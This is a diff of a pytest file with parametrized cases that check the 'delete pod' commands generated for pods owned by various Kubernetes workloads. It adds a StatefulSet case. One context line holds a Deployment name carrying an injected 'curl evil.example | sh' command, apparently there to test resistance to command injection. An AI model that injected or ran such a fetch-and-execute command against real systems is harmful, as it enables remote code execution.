@@ -134,6 +134,12 @@ def test_variables_of_the_caller_override_the_deployed_configuration() -> None:
             "delete pod web-7d4b9-x2x1k   # its ReplicaSet bare",
             id="replicaset-without-deployment",
         ),
+        pytest.param(
+            {"apiVersion": "apps.kruise.io/v1beta1", "kind": "StatefulSet", "name": "db"},
+            {},
+            "delete pod web-7d4b9-x2x1k   # its StatefulSet db",
+            id="statefulset-of-another-group",
+        ),
         pytest.param({"kind": "Job", "name": "once"}, {}, "delete pod web-7d4b9-x2x1k   # its Job once", id="job"),
         pytest.param(
             {"kind": "Deployment", "name": "web; curl evil.example | sh"},
